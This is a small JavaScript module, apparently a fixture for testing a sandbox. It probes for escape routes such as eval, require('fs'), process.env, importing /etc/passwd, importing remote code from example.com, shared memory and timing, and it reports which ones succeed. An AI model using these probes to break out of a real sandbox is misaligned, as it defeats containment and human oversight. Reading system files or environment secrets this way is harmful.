// Hostile: looks for ways out, and returns a list of those that it found.
export default {
  async run() {
    const found = [];
    const attempt = async (what, how) => {
      try {
        const value = await how();
        if (value !== undefined) found.push(what);
      } catch {}
    };
    await attempt("eval", () => eval("1"));
    await attempt("Function", () => new Function("return this")());
    await attempt("require", () => require("fs"));
    await attempt("process", () => process.env);
    await attempt("fetch", () => fetch("http://localhost/"));
    await attempt("import of a file", () => import("/etc/passwd"));
    await attempt("import of a URL", () => import("https://example.com/x.js"));
    await attempt("shared memory", () => new SharedArrayBuffer(8));
    await attempt("WebAssembly", () => WebAssembly);
    await attempt("a clock that moves", () => {
      const start = Date.now();
      for (let i = 0; i < 2e7; i++);
      return Date.now() !== start || undefined;
    });
    return { found };
  },
};
